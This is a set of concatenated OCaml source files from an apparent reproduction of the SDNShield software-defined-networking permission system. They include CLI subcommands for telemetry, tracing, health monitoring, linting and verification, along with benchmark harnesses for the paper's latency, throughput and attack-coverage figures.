      Fmt.pr "# --- prometheus ---@.%s" (Telemetry.to_prometheus snap));
    (match spans_to_show with
    | 0 -> ()
    | n ->
      let spans = Trace.spans trace in
      let tail =
        let len = List.length spans in
        if len <= n then spans else List.filteri (fun i _ -> i >= len - n) spans
      in
      Fmt.pr "# --- last %d spans ---@." (List.length tail);
      List.iter (fun s -> Fmt.pr "%a@." Trace.pp_span s) tail);
    `Ok ()
  in
  let format =
    Arg.(
      value
      & opt (enum [ ("all", "all"); ("json", "json");
                    ("prometheus", "prometheus"); ("text", "text") ])
          "all"
      & info [ "format" ] ~docv:"FORMAT"
          ~doc:
            "Output format: $(b,json), $(b,prometheus), $(b,text), or \
             $(b,all) (default).")
  in
  let events =
    Arg.(
      value & opt int 2_000
      & info [ "events" ] ~docv:"N" ~doc:"Packet-in events to inject.")
  in
  let spans_arg =
    Arg.(
      value & opt int 5
      & info [ "spans" ] ~docv:"N"
          ~doc:"Also print the last N recorded spans (0 = none).")
  in
  let market_arg =
    Arg.(
      value & flag
      & info [ "market" ]
          ~doc:
            "Also run a seeded churn script through the live-update market \
             (sharing the trace store and health monitor) and render its \
             transaction ledger and epoch history as an extra section — \
             the snapshot then carries the $(b,lat:stage:*) histograms \
             and the market gauges too.")
  in
  Cmd.v
    (Cmd.info "telemetry"
       ~doc:
         "Run a small traced workload on the isolated runtime and emit the \
          unified telemetry snapshot — latency histograms, cache counters, \
          queue gauges, fault counters, span accounting and the health \
          verdict — as JSON, Prometheus text exposition, or a \
          human-readable report; $(b,--market) adds the churn ledger and \
          epoch history (docs/OBSERVABILITY.md)")
    Term.(ret (const run $ format $ events $ spans_arg $ market_arg))

(* timeline ------------------------------------------------------------------- *)

(* Export a combined workload — mediated calls plus lifecycle churn,
   sharing one span store — as a Chrome trace_event document, the
   format chrome://tracing and https://ui.perfetto.dev load directly:
   calls on one track, transactions (with nested stage slices) on the
   other. *)
let timeline_cmd =
  let run events txns apps invalid seed out =
    let trace = Trace.create ~capacity:8192 ~txn_capacity:(max 1024 txns) () in
    ignore (run_traced_calls ~trace ~events ());
    ignore (run_traced_churn ~trace ~txns ~apps ~invalid ~seed ());
    let doc = Timeline.to_string trace in
    (match out with
    | None -> print_string doc
    | Some path ->
      let oc = open_out path in
      Fun.protect
        ~finally:(fun () -> close_out_noerr oc)
        (fun () -> output_string oc doc);
      let st = Trace.stats trace in
      Fmt.pr "wrote %s: %d call spans, %d transaction spans@." path
        st.Trace.stored st.Trace.txn_stored);
    `Ok ()
  in
  let events =
    Arg.(
      value & opt int 500
      & info [ "events" ] ~docv:"N"
          ~doc:"Packet-in events for the mediated-call track.")
  in
  let txns =
    Arg.(
      value & opt int 24
      & info [ "txns" ] ~docv:"N"
          ~doc:"Lifecycle transactions for the transaction track.")
  in
  let apps =
    Arg.(
      value & opt int 12
      & info [ "apps" ] ~docv:"N" ~doc:"App pool the churn script uses.")
  in
  let invalid =
    Arg.(
      value & opt float 0.15
      & info [ "invalid" ] ~docv:"FRAC"
          ~doc:"Fraction of churn requests built to roll back.")
  in
  let seed =
    Arg.(
      value & opt int 11
      & info [ "seed" ] ~docv:"SEED" ~doc:"Churn script seed.")
  in
  let out =
    Arg.(
      value
      & opt (some string) None
      & info [ "out" ] ~docv:"FILE"
          ~doc:"Write the document to $(docv) instead of stdout.")
  in
  Cmd.v
    (Cmd.info "timeline"
       ~doc:
         "Run a traced workload (mediated calls + lifecycle churn) and \
          export it as a Chrome trace_event JSON document, loadable in \
          Perfetto or chrome://tracing: calls and lifecycle transactions \
          on separate tracks, stage spans nested under their transaction \
          (docs/OBSERVABILITY.md)")
    Term.(ret (const run $ events $ txns $ apps $ invalid $ seed $ out))

(* health --------------------------------------------------------------------- *)

(* Three deterministic phases against one monitor on a manual clock:
   clean churn (expect healthy), churn with the mid-swap fault sites
   armed (expect degraded — the fault-site observer feeds the
   monitor), then disarm, slide the window past the incident and run
   clean churn again (expect healthy).  Exits 1 when the final verdict
   is not healthy. *)
let health_cmd =
  let run txns apps seed json =
    let hclock = ref 0. in
    let health = Health.create ~clock:(fun () -> !hclock) () in
    let trace = Trace.create () in
    let flight = Forensics.Flight.create ~trace () in
    Faults.set_observer (fun _ -> Health.fault health);
    let t =
      match Epoch.create ~policy:"" () with
      | Ok t -> t
      | Error e -> failwith ("policy rejected: " ^ e)
    in
    let m = Epoch.market ~trace ~health ~flight t in
    let phase ~faulted seed =
      if faulted then
        Faults.configure ~seed ~swap_verify:0.08 ~swap_compile:0.08
          ~swap_publish:0.08 ()
      else Faults.disarm ();
      let script =
        Shield_workload.Churn_gen.script ~seed ~apps ~invalid_fraction:0.
          ~length:txns ()
      in
      List.iter
        (fun (e : Shield_workload.Churn_gen.entry) ->
          ignore (Market.submit m e.Shield_workload.Churn_gen.request))
        script;
      Health.verdict health
    in
    let verdicts =
      Fun.protect
        ~finally:(fun () ->
          Faults.disarm ();
          Faults.clear_observer ())
        (fun () ->
          let clean = phase ~faulted:false seed in
          let under_fault = phase ~faulted:true (seed + 1) in
          Faults.disarm ();
          hclock := !hclock +. Health.window health +. 1.;
          let recovered = phase ~faulted:false (seed + 2) in
          [ ("clean", clean); ("faulted", under_fault);
            ("recovered", recovered) ])
    in
    Market.shutdown m;
    Epoch.close t;
    let bundles = Forensics.Flight.bundles flight in
    (if json then
       let module J = Telemetry.Json in
       let cause_json (c : Health.cause) =
         J.Obj
           [ ("signal", J.Str c.Health.cause_signal);
             ("observed", J.Num c.Health.observed);
             ("threshold", J.Num c.Health.threshold);
             ("level", J.Str (Health.status_to_string c.Health.level)) ]
       in
       Fmt.pr "%s@."
         (J.to_string
            (J.Obj
               [ ( "phases",
                   J.Arr
                     (List.map
                        (fun (name, (v : Health.verdict)) ->
                          J.Obj
                            [ ("phase", J.Str name);
                              ( "status",
                                J.Str (Health.status_to_string v.Health.status)
                              );
                              ("causes", J.Arr (List.map cause_json v.Health.causes))
                            ])
                        verdicts) );
                 ( "flight_bundles",
                   J.Num (float_of_int (List.length bundles)) ) ]))
     else
       List.iter
         (fun (name, v) ->
           Fmt.pr "phase %-9s -> %a@." name Health.pp_verdict v)
         verdicts);
    let _, final = List.nth verdicts 2 in
    if final.Health.status <> Health.Healthy then exit 1;
    `Ok ()
  in
  let txns =
    Arg.(
      value & opt int 25
      & info [ "txns" ] ~docv:"N" ~doc:"Lifecycle transactions per phase.")
  in
  let apps =
    Arg.(
      value & opt int 12
      & info [ "apps" ] ~docv:"N" ~doc:"App pool the churn scripts use.")
  in
  let seed =
    Arg.(
      value & opt int 11
      & info [ "seed" ] ~docv:"SEED"
          ~doc:"Base script / fault-schedule seed (phases offset it).")
  in
  let json =
    Arg.(
      value & flag
      & info [ "json" ] ~doc:"Emit the phase verdicts as JSON.")
  in
  Cmd.v
    (Cmd.info "health"
       ~doc:
         "Drive the sliding-window health monitor through a clean / \
          faulted / recovered churn sequence on a manual clock and print \
          the verdict after each phase (docs/OBSERVABILITY.md).  Exits 1 \
          when the final verdict is not healthy")
    Term.(ret (const run $ txns $ apps $ seed $ json))

(* lint ----------------------------------------------------------------------- *)

let lint_cmd =
  let run path as_policy json deny disabled call_specs =
    let deny_rank =
      match deny with
      | "error" -> 2
      | "warn" -> 1
      | "info" -> 0
      | _ -> 2
    in
    let rules_result =
      List.fold_left
        (fun acc id ->
          match acc with
          | Error _ -> acc
          | Ok rules -> (
            match Lint.rule_of_id id with
            | Some r -> Ok (List.filter (fun r' -> r' <> r) rules)
            | None ->
              Error
                (Printf.sprintf "unknown rule %S (known: %s)" id
                   (String.concat ", " (List.map Lint.rule_id Lint.all_rules)))))
        (Ok Lint.all_rules) disabled
    in
    match rules_result with
    | Error e -> `Error (false, e)
    | Ok rules -> (
      let src = read_file path in
      let findings_result =
        if as_policy then
          (* The over-privilege audit is manifest-only: a behaviour
             trace has no meaning against a policy, so rejecting the
             combination loudly beats silently dropping the specs the
             user typed. *)
          if call_specs <> [] then
            Error
              "--call builds a behaviour trace for the manifest \
               over-privilege audit and cannot be combined with --policy; \
               lint the app manifest instead"
          else
            match Policy_parser.of_string src with
            | Error e -> Error ("parse error: " ^ e)
            | Ok policy -> Ok (Lint.lint_policy ~rules policy)
        else
          match Perm_parser.manifest_of_string src with
          | Error e -> Error ("parse error: " ^ e)
          | Ok m -> (
            match call_specs with
            | [] -> Ok (Lint.lint_manifest ~rules m)
            | specs -> (
              let rec parse_calls acc = function
                | [] -> Ok (List.rev acc)
                | s :: rest -> (
                  match call_of_spec s with
                  | Ok c -> parse_calls (c :: acc) rest
                  | Error e -> Error (Printf.sprintf "call %S: %s" s e))
              in
              match parse_calls [] specs with
              | Error e -> Error e
              | Ok trace -> Ok (Lint.lint_manifest ~rules ~trace m)))
      in
      match findings_result with
      | Error e -> `Error (false, e)
      | Ok findings ->
        if json then Fmt.pr "%s@." (Lint.to_sarif ~uri:path findings)
        else Fmt.pr "%a" Lint.pp_report findings;
        let worst =
          match Lint.max_severity findings with
          | None -> -1
          | Some Lint.Error -> 2
          | Some Lint.Warn -> 1
          | Some Lint.Info -> 0
        in
        if worst >= deny_rank then begin
          (* Gate counts collapse witness-bearing findings to one per
             rule (Lint.gate_count): attaching confirmed witness calls
             to a rule's findings must not inflate the numbers CI keys
             on. *)
          Fmt.epr
            "lint: findings at or above the --deny %s threshold (%d \
             error(s), %d warning(s), %d info)@."
            deny
            (Lint.gate_count Lint.Error findings)
            (Lint.gate_count Lint.Warn findings)
            (Lint.gate_count Lint.Info findings);
          exit 1
        end
        else `Ok ())
  in
  let path = Arg.(required & pos 0 (some file) None & info [] ~docv:"FILE") in
  let as_policy =
    Arg.(
      value & flag
      & info [ "policy" ]
          ~doc:"Treat $(docv) as a security policy instead of a manifest.")
  in
  let json =
    Arg.(
      value & flag
      & info [ "json" ] ~doc:"Emit SARIF-shaped JSON instead of text.")
  in
  let deny =
    Arg.(
      value
      & opt (enum [ ("error", "error"); ("warn", "warn"); ("info", "info") ])
          "error"
      & info [ "deny" ] ~docv:"SEVERITY"
          ~doc:
            "Exit non-zero when any finding is at or above $(docv) \
             (default $(b,error)); $(b,--deny warn) promotes warnings for \
             CI use.")
  in
  let disabled =
    Arg.(
      value & opt_all string []
      & info [ "disable" ] ~docv:"RULE"
          ~doc:"Disable a rule by id (repeatable), e.g. \
                $(b,shadowed-clause).")
  in
  let calls =
    Arg.(
      value & opt_all string []
      & info [ "call" ] ~docv:"SPEC"
          ~doc:
            "Behaviour-trace call spec (repeatable), same syntax as \
             $(b,check); supplying a trace enables the over-privilege \
             audit against the inferred least-privilege manifest.")
  in
  Cmd.v
    (Cmd.info "lint"
       ~doc:
         "Run shield-lint over a manifest or policy and print structured \
          findings (docs/LINTING.md); text or SARIF-shaped JSON output, \
          with $(b,--deny) severity promotion for CI")
    Term.(ret (const run $ path $ as_policy $ json $ deny $ disabled $ calls))

(* verify --------------------------------------------------------------------- *)

let verify_cmd =
  let run app manifest_path policy_path json deny minimal max_steps max_clauses
      max_nodes max_depth deadline =
    let d = Budget.default_limits in
    let limits =
      { Budget.max_steps = Option.value max_steps ~default:d.Budget.max_steps;
        max_clauses = Option.value max_clauses ~default:d.Budget.max_clauses;
        max_nodes = Option.value max_nodes ~default:d.Budget.max_nodes;
        max_depth = Option.value max_depth ~default:d.Budget.max_depth;
        deadline =
          (match deadline with Some _ -> deadline | None -> d.Budget.deadline) }
    in
    match
      Vetting.vet_and_reconcile ~limits
        ~apps:[ (app, read_file manifest_path) ]
        (read_file policy_path)
    with
    | Vetting.Rejected r ->
      `Error (false, Fmt.str "%a" Vetting.pp_rejection r)
    | Vetting.Admitted { certificate; _ }
    | Vetting.Degraded ({ certificate; _ }, _) -> (
      match certificate with
      | None ->
        (* vet_and_reconcile always certifies; a missing certificate is
           a pipeline bug, and --deny must treat it as not certified. *)
        if deny then `Error (false, "no certificate produced") else `Ok ()
      | Some cert ->
        if json then
          Fmt.pr "%s@." (Telemetry.Json.to_string (Verify.json_of_certificate cert))
        else Fmt.pr "%a@." Verify.pp_certificate cert;
        if deny && not (Verify.certified cert) then begin
          Fmt.epr "verify: %s — failing (--deny)@." (Verify.verdict_label cert);
          exit 1
        end
        else if minimal && Verify.minimality_label cert <> "minimal" then begin
          Fmt.epr
            "verify: repair minimality is %s — failing (--minimal)@."
            (Verify.minimality_label cert);
          exit 1
        end
        else `Ok ())
  in
  let app_arg =
    Arg.(value & opt string "app" & info [ "app" ] ~docv:"NAME" ~doc:"App name")
  in
  let manifest =
    Arg.(required & pos 0 (some file) None & info [] ~docv:"MANIFEST")
  in
  let policy =
    Arg.(required & pos 1 (some file) None & info [] ~docv:"POLICY")
  in
  let json =
    Arg.(
      value & flag
      & info [ "json" ]
          ~doc:"Emit the certificate as JSON instead of a text report.")
  in
  let deny =
    Arg.(
      value & flag
      & info [ "deny" ]
          ~doc:
            "Exit non-zero unless the verdict is $(b,certified) — for CI: \
             refuted and unverified (budget-degraded) runs both fail.")
  in
  let minimal =
    Arg.(
      value & flag
      & info [ "minimal" ]
          ~doc:
            "Additionally exit non-zero unless the certificate's \
             least-repair dimension is $(b,minimal): confirmed slack (a \
             repair stripped behaviour the policy allows) and \
             unknown-minimality (budget-degraded) runs both fail.  \
             Composes with $(b,--deny) for full promotion.")
  in
  let opt_int names doc =
    Arg.(value & opt (some int) None & info names ~docv:"N" ~doc)
  in
  let max_steps = opt_int [ "max-steps" ] "Work-tick budget." in
  let max_clauses = opt_int [ "max-clauses" ] "Clause-allocation budget." in
  let max_nodes = opt_int [ "max-nodes" ] "Macro-expansion node budget." in
  let max_depth = opt_int [ "max-depth" ] "Nesting-depth budget." in
  let deadline =
    Arg.(
      value
      & opt (some float) None
      & info [ "deadline" ] ~docv:"SECONDS" ~doc:"Wall-clock budget.")
  in
  Cmd.v
    (Cmd.info "verify"
       ~doc:
         "Reconcile an app manifest against a policy and certify that the \
          repaired manifest satisfies every obligation (docs/VERIFY.md); \
          refuted obligations come with concrete counterexample calls, and \
          the certificate carries a least-repair minimality dimension. \
          Exits 0 unless $(b,--deny) (verdict not certified) or \
          $(b,--minimal) (repair not provably minimal) fail it")
    Term.(
      ret
        (const run $ app_arg $ manifest $ policy $ json $ deny $ minimal
       $ max_steps $ max_clauses $ max_nodes $ max_depth $ deadline))

let () =
  let info =
    Cmd.info "sdnshield" ~version:"1.0.0"
      ~doc:"SDNShield permission & reconciliation engines (DSN'16 reproduction)"
  in
  exit
    (Cmd.eval
       (Cmd.group info
          [ parse_cmd; parse_policy_cmd; reconcile_cmd; check_cmd; vet_cmd;
            lint_cmd; verify_cmd; faults_demo_cmd; market_demo_cmd;
            telemetry_cmd; timeline_cmd; health_cmd ]))
