(* Figure 5 — permission-engine checking throughput on a single core.

   Paper setup (§IX-B2): three manifests of small/medium/large
   complexity (1/5/15 permission tokens, 10–20 filters each); an app
   behaviour trace of flow insertions and statistics requests with 5 %
   violations; y-axis is permission checks per second, one series per
   API call type.

   Paper result: throughput decreases moderately with manifest
   complexity and "permission checking latency is always less than one
   microsecond". *)

open Shield_workload
open Sdnshield
open Bechamel

let complexities = [ Perm_gen.Small; Perm_gen.Medium; Perm_gen.Large ]

let engine_for ~complexity ~focus =
  (* Stateless checking, as the paper characterises the engine for this
     microbenchmark ("since the permission checking is stateless, we
     can easily scale out"). *)
  Engine.create ~record_state:false
    ~ownership:(Ownership.create ())
    ~app_name:"fig5" ~cookie:1
    (Perm_gen.generate ~complexity ~focus ())

let test_for ~complexity ~(focus : Api_trace.focus) =
  let engine = engine_for ~complexity ~focus in
  let trace = Array.map fst (Api_trace.generate ~focus ~n:4096 ()) in
  let i = ref 0 in
  let label = match focus with `Insert -> "insert_flow" | `Stats -> "read_statistics" in
  Test.make
    ~name:(Printf.sprintf "%s/%s" label (Perm_gen.complexity_to_string complexity))
    (Staged.stage (fun () ->
         let call = trace.(!i land 4095) in
         incr i;
         Sys.opaque_identity (Engine.check engine call)))

let run () =
  Bench_util.hr
    "Figure 5: permission checking throughput (single core, 5% violations)";
  let tests =
    List.concat_map
      (fun focus ->
        List.map (fun complexity -> test_for ~complexity ~focus) complexities)
      [ `Insert; `Stats ]
  in
  let results =
    Bench_util.run_bechamel (Test.make_grouped ~name:"fig5" tests)
  in
  let rows =
    List.map
      (fun (name, ns) ->
        [ name; Bench_util.fmt_ns ns; Bench_util.fmt_ops ns;
          (if ns < 1000. then "yes" else "NO") ])
      results
  in
  Bench_util.table
    [ "api-call/manifest"; "latency"; "throughput"; "sub-microsecond?" ]
    rows;
  Fmt.pr
    "@.paper: throughput drops moderately from small to large manifests;@.";
  Fmt.pr "       checking latency always < 1 us.@."
