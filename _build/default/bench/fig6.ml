(* Figure 6 — end-to-end control-plane latency, original controller vs
   SDNShield-enabled controller, in the two §IX-A scenarios, varying
   the number of switches.  Median with 10/90-percentile spread over
   repeated rounds, as in the paper (100 repetitions).

   Paper result: "the additional overhead introduced by SDNShield is
   almost unnoticeable in both experiments" — tens of microseconds,
   two orders of magnitude below data-center end-to-end latency. *)

open Shield_workload

let switch_counts = [ 4; 8; 16; 32; 64 ]
let rounds = 100

let fmt_summary (s : Shield_controller.Metrics.summary) =
  Printf.sprintf "%.1f [%.1f-%.1f]" (s.median *. 1e6) (s.p10 *. 1e6)
    (s.p90 *. 1e6)

let l2_row n =
  let run ~shield =
    let h = Scenarios.l2_scenario ~shield ~switches:n () in
    let gen = Cbench.create ~switches:n () in
    (* Warm-up round so thread pools and tables exist. *)
    Shield_controller.Runtime.feed_sync h.Scenarios.runtime (Cbench.next_packet_in gen);
    let s =
      Scenarios.latency ~rounds h (fun _ -> Cbench.next_packet_in gen)
    in
    h.Scenarios.shutdown ();
    s
  in
  let base = run ~shield:false in
  let shield = run ~shield:true in
  [ "L2 switch"; string_of_int n; fmt_summary base; fmt_summary shield;
    Printf.sprintf "%+.1f" ((shield.median -. base.median) *. 1e6) ]

let alto_row n =
  let run ~shield =
    let h = Scenarios.alto_scenario ~shield ~switches:n () in
    Shield_controller.Runtime.feed_sync h.Scenarios.runtime h.Scenarios.trigger;
    let s = Scenarios.latency ~rounds h (fun _ -> h.Scenarios.trigger) in
    h.Scenarios.shutdown ();
    s
  in
  let base = run ~shield:false in
  let shield = run ~shield:true in
  [ "ALTO TE"; string_of_int n; fmt_summary base; fmt_summary shield;
    Printf.sprintf "%+.1f" ((shield.median -. base.median) *. 1e6) ]

let run () =
  Bench_util.hr
    "Figure 6: end-to-end latency, median [p10-p90] us, 100 rounds";
  let rows =
    List.map l2_row switch_counts @ List.map alto_row switch_counts
  in
  Bench_util.table
    [ "scenario"; "switches"; "original (us)"; "SDNShield (us)"; "overhead (us)" ]
    rows;
  Fmt.pr
    "@.paper: SDNShield overhead is tens of microseconds and nearly@.";
  Fmt.pr "       unnoticeable next to the baseline in both scenarios.@."
