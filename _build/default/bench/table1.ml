(* Table I — attack protection coverage of existing SDN security
   approaches vs SDNShield.

   Paper claim: traffic isolation protects none of the four classes
   when attacker and victim apps share a slice; network state analysis
   detects (only) the rule-manipulation classes; SDNShield, with proper
   permissions, protects all four. *)

let defenses =
  Attack_lab.
    [ No_defense; Slicing; State_analysis; Sdnshield_scenario ]

let run () =
  Bench_util.hr "Table I: attack protection coverage";
  let rows =
    List.map
      (fun (name, run_class) ->
        name
        :: List.map
             (fun d -> Attack_lab.outcome_name (run_class d))
             defenses)
      Attack_lab.classes
  in
  Bench_util.table
    ("attack class" :: List.map Attack_lab.defense_name defenses)
    rows;
  Fmt.pr
    "@.paper: slicing covers none of the four (same-slice attacker);@.";
  Fmt.pr "       state analysis flags only classes 3-4; SDNShield covers all.@."
