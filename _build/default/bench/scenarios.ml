(* The two end-to-end evaluation scenarios of §IX-A, runnable with and
   without SDNShield:

   - "L2 Learning Switch": the l2switch app learns host positions from
     ARP-carrying packet-ins and pins switching rules.  Under
     SDNShield, permissions are checked at listener notification and
     rule issuance.

   - "Traffic Engineering based on ALTO": the ALTO app publishes
     topology/cost info; a TE app reacts with route-changing flow-mods.
     Under SDNShield, checks happen at the ALTO listener notification,
     the data publication, the TE event notification and the TE rule
     issuance.

   Baseline = the paper's "original" controller: monolithic runtime,
   no checker.  SDNShield = thread-isolated runtime with per-app
   permission engines. *)

open Shield_net
open Shield_controller
open Shield_apps
open Sdnshield

type handle = {
  runtime : Runtime.t;
  kernel : Kernel.t;
  trigger : Events.t;  (** One scenario round. *)
  shutdown : unit -> unit;
}

let shield_checker ~ownership ~topo name cookie manifest_src =
  Engine.checker
    (Engine.create ~topo ~ownership ~app_name:name ~cookie
       (Perm_parser.manifest_exn manifest_src))

(* Busy-spin calibration: iterations per microsecond, measured once.
   Used to emulate the per-event processing weight of a production
   Java controller (the paper's OpenDaylight baseline does far more
   work per packet-in than our lean simulator). *)
let spin_per_us =
  lazy
    (let probe n =
       let t0 = Unix.gettimeofday () in
       let x = ref 0 in
       for i = 1 to n do
         x := !x lxor i
       done;
       ignore (Sys.opaque_identity !x);
       Unix.gettimeofday () -. t0
     in
     let n = 10_000_000 in
     let per_iter = probe n /. float_of_int n in
     1e-6 /. per_iter)

let spin_us us =
  let iters = int_of_float (float_of_int us *. Lazy.force spin_per_us) in
  let x = ref 0 in
  for i = 1 to iters do
    x := !x lxor i
  done;
  ignore (Sys.opaque_identity !x)

(** Wrap an app so each event costs an extra [work_us] of synthetic
    processing. *)
let with_work ~work_us (app : App.t) : App.t =
  if work_us = 0 then app
  else
    { app with
      App.handle =
        (fun ctx ev ->
          spin_us work_us;
          app.App.handle ctx ev) }

(** The L2 learning-switch scenario over [switches] switches.
    [shield_mode] picks the isolation architecture when [shield]. *)
let l2_scenario ?(work_us = 0) ?(shield_mode = Runtime.Isolated { ksd_threads = 2 })
    ~shield ~switches () : handle =
  let topo = Topology.linear switches in
  let dp = Dataplane.create topo in
  let kernel = Kernel.create dp in
  let l2 = L2_switch.create () in
  let l2_app = with_work ~work_us (L2_switch.app l2) in
  let mode, checker =
    if shield then
      let ownership = Ownership.create () in
      ( shield_mode,
        shield_checker ~ownership ~topo "l2switch" 1 L2_switch.manifest_src )
    else (Runtime.Monolithic, Api.allow_all)
  in
  let runtime = Runtime.create ~mode kernel [ (l2_app, checker) ] in
  { runtime; kernel;
    trigger = Events.App_published { source = "env"; tag = "unused"; payload = "" };
    shutdown = (fun () -> Runtime.shutdown runtime) }

(** The ALTO traffic-engineering scenario. *)
let alto_scenario ~shield ~switches () : handle =
  let topo = Topology.linear switches in
  let dp = Dataplane.create topo in
  let kernel = Kernel.create dp in
  let alto = Alto.create_alto () in
  let te = Alto.create_te ~max_pairs:2 () in
  let mode, alto_checker, te_checker =
    if shield then begin
      let ownership = Ownership.create () in
      ( Runtime.Isolated { ksd_threads = 2 },
        shield_checker ~ownership ~topo "alto" 1 Alto.alto_manifest_src,
        shield_checker ~ownership ~topo "te" 2 Alto.te_manifest_src )
    end
    else (Runtime.Monolithic, Api.allow_all, Api.allow_all)
  in
  let runtime =
    Runtime.create ~mode kernel
      [ (alto.Alto.app, alto_checker); (te.Alto.app, te_checker) ]
  in
  { runtime; kernel;
    trigger =
      Events.App_published { source = "env"; tag = "alto-poll"; payload = "" };
    shutdown = (fun () -> Runtime.shutdown runtime) }

(** Median/percentile latency of [rounds] scenario rounds. *)
let latency ~rounds (h : handle) gen_event : Metrics.summary =
  let m = Metrics.create () in
  for i = 1 to rounds do
    let ev = gen_event i in
    Metrics.time m (fun () -> Runtime.feed_sync h.runtime ev)
  done;
  Metrics.summarize m
