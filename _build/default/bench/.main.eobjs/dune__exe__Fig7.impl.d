bench/fig7.ml: Bench_util Cbench Fmt List Printf Scenarios Shield_controller Shield_workload
