bench/fig5.ml: Api_trace Array Bechamel Bench_util Engine Fmt List Ownership Perm_gen Printf Sdnshield Shield_workload Staged Sys Test
