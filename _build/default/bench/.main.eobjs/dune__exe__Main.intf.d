bench/main.mli:
