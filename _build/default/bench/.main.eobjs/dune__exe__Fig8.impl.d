bench/fig8.ml: Api App Bench_util Dataplane Engine Events Fmt Kernel List Metrics Ownership Perm_parser Printf Runtime Sdnshield Shield_controller Shield_net Shield_openflow Stats Topology
