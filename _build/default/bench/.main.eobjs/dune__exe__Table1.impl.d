bench/table1.ml: Attack_lab Bench_util Fmt List
