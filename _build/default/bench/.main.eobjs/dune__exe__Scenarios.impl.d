bench/scenarios.ml: Alto Api App Dataplane Engine Events Kernel L2_switch Lazy Metrics Ownership Perm_parser Runtime Sdnshield Shield_apps Shield_controller Shield_net Sys Topology Unix
