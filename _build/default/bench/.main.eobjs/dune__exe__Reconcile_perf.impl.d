bench/reconcile_perf.ml: Bench_util Buffer Fmt List Perm_gen Policy_parser Printf Reconcile Sdnshield Shield_workload Token
