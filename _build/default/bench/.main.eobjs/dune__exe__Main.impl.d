bench/main.ml: Ablations Array Effectiveness Fig5 Fig6 Fig7 Fig8 Fmt List Reconcile_perf String Sys Table1
