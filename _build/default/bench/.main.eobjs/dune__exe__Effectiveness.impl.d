bench/effectiveness.ml: Attack_lab Bench_util Fmt List Perm Perm_parser Policy_parser Printf Reconcile Sdnshield Token
