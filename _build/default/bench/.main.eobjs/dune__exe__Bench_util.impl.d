bench/bench_util.ml: Analyze Bechamel Benchmark Fmt Hashtbl Instance List Measure Printf String Test Time Toolkit Unix
