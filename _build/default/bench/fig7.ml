(* Figure 7 — end-to-end throughput pressure test on the L2
   learning-switch scenario (the paper drops the ALTO scenario here
   because the ALTO app's update rate is externally limited).

   CBench throughput mode: flood packet-ins, count completions/second,
   original vs SDNShield-enabled controller, varying switches.

   Paper result: "SDNShield brings negligible throughput degradation
   compared to the original OpenDaylight controller."

   Two variants are reported:
   - "bare": our simulator kernel as-is.  It processes a packet-in in
     ~1-5 us — 5-10x lighter than OpenDaylight — so the fixed
     isolation cost (thread handoffs, which OCaml's runtime lock
     serializes where the paper's JVM parallelizes them) looks
     relatively enormous.
   - "calibrated": each packet-in additionally costs ~30 us of app
     processing, the per-event weight of an OpenDaylight-class
     controller (20-60k responses/s in CBench studies).  This is the
     apples-to-apples setting for the paper's claim. *)

open Shield_workload

let switch_counts = [ 4; 16; 64 ]
let total_events = 20_000
let odl_class_work_us = 30

let run_one ?shield_mode ~work_us ~shield n =
  let h = Scenarios.l2_scenario ?shield_mode ~work_us ~shield ~switches:n () in
  let gen = Cbench.create ~switches:n () in
  let rate = Cbench.throughput_run gen h.Scenarios.runtime ~total:total_events in
  h.Scenarios.shutdown ();
  rate

let variant_table ~work_us label =
  Bench_util.subhr label;
  let rows =
    List.map
      (fun n ->
        let base = run_one ~work_us ~shield:false n in
        let threads = run_one ~work_us ~shield:true n in
        let domains =
          run_one
            ~shield_mode:
              (Shield_controller.Runtime.Isolated_domains { ksd_domains = 2 })
            ~work_us ~shield:true n
        in
        let pct v = Printf.sprintf "%.1f%%" ((base -. v) /. base *. 100.) in
        [ string_of_int n;
          Printf.sprintf "%.0f ev/s" base;
          Printf.sprintf "%.0f ev/s" threads;
          pct threads;
          Printf.sprintf "%.0f ev/s" domains;
          pct domains ])
      switch_counts
  in
  Bench_util.table
    [ "switches"; "original"; "SDNShield (threads)"; "degr.";
      "SDNShield (parallel KSDs)"; "degr." ]
    rows

let run () =
  Bench_util.hr
    (Printf.sprintf
       "Figure 7: throughput pressure test (L2 switch, %d packet-ins)"
       total_events);
  variant_table ~work_us:0 "bare simulator kernel (per-event cost ~1-5 us)";
  variant_table ~work_us:odl_class_work_us
    (Printf.sprintf
       "calibrated to an OpenDaylight-class controller (+%d us/event)"
       odl_class_work_us);
  Fmt.pr
    "@.paper: negligible degradation.  The calibrated variant is the@.";
  Fmt.pr
    "comparable setting; the bare variant shows the raw isolation cost@.";
  Fmt.pr
    "(OCaml systhreads serialize on the runtime lock, so thread handoffs@.";
  Fmt.pr "are pure overhead here where the paper's JVM ran them in parallel).@."
