(* Ablations of the design choices called out in DESIGN.md §5:

   - checker compilation: AST-interpreting engine vs closure-compiled
     checker on the same trace;
   - isolation architecture: monolithic direct calls vs thread
     isolation with 1 / 2 / 4 Kernel Service Deputies;
   - Algorithm-1 cost vs filter-expression size (the CNF×DNF
     clause-pairwise comparison). *)

open Shield_workload
open Sdnshield
open Bechamel

(* Compilation ---------------------------------------------------------------- *)

let run_compile () =
  Bench_util.hr "Ablation: manifest compilation (interpreted AST vs closures)";
  let tests =
    List.concat_map
      (fun complexity ->
        let manifest = Perm_gen.generate ~complexity ~focus:`Insert () in
        let engine =
          Engine.create ~record_state:false
            ~ownership:(Ownership.create ())
            ~app_name:"ablate" ~cookie:1 manifest
        in
        let compiled = Compiled.of_manifest manifest in
        let trace = Array.map fst (Api_trace.generate ~focus:`Insert ~n:4096 ()) in
        let i = ref 0 and j = ref 0 in
        let name suffix =
          Printf.sprintf "%s/%s" (Perm_gen.complexity_to_string complexity) suffix
        in
        [ Test.make ~name:(name "interpreted")
            (Staged.stage (fun () ->
                 let call = trace.(!i land 4095) in
                 incr i;
                 Sys.opaque_identity (Engine.check engine call)));
          Test.make ~name:(name "compiled")
            (Staged.stage (fun () ->
                 let call = trace.(!j land 4095) in
                 incr j;
                 Sys.opaque_identity (Compiled.check compiled call))) ])
      [ Perm_gen.Small; Perm_gen.Medium; Perm_gen.Large ]
  in
  let results = Bench_util.run_bechamel (Test.make_grouped ~name:"compile" tests) in
  Bench_util.table
    [ "manifest/strategy"; "latency"; "throughput" ]
    (List.map
       (fun (name, ns) -> [ name; Bench_util.fmt_ns ns; Bench_util.fmt_ops ns ])
       results)

(* Isolation ------------------------------------------------------------------- *)

let run_isolation () =
  Bench_util.hr
    "Ablation: isolation architecture (per-event latency, L2 scenario, 16 \
     switches)";
  let modes =
    [ ("monolithic (direct calls)", None);
      ("isolated, 1 KSD", Some 1);
      ("isolated, 2 KSDs", Some 2);
